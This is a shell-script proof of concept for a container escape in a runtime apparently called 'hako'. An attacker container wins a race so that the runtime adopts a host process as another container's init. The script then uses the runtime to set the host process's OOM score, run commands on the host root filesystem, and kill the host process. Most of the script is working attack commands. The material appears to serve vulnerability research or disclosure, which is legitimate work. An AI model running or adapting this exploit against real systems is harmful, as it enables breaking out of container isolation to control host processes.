#!/bin/sh
# Pod member's init tells hako create a HOST pid as its own (Create.swift
# awaitReady/adoptSecondStage trust every "pid:N" on the sync channel).
# Attacker: container "a" (Docker-like caps + CAP_SYS_PTRACE, no userns),
# running /bin/pidlie HOSTPID. Victim: "b2", created by the admin with
# linux.namespaces pid path = /proc/<a's init>/ns/pid, no seccomp needed.
# Needs: a running as in pod-notify-escape.sh (bundle /tmp/cold/a with
# pidlie in rootfs/bin), bundle /tmp/cold/b2 = b without linux.seccomp,
# with process.oomScoreAdj 777. The race (stop the second stage before
# it says ready) is won by spinning THREADS threads on the next pid; on
# this 2-CPU host, loaded, it was won at the first try with 2 threads.
set -u
cd /tmp/cold; export PATH=/work/wt/coldattack/.build/release:$PATH; H="hako --root /tmp/cold/state"
sleep 100000 >/dev/null 2>&1 & V=$!   # a host process outside any container
echo $V > victim.pid
./try-pidlie.sh 2                     # state b2: pid $V
cat /proc/$V/oom_score_adj            # 777: set by hako on the host process
$H exec b2 sh -c 'cat /tmp/cold/proof; ls /'   # runs on the host's root
$H start b2                           # pidlie holds exec.fifo's reader
$H kill b2 TERM                       # kills host pid $V
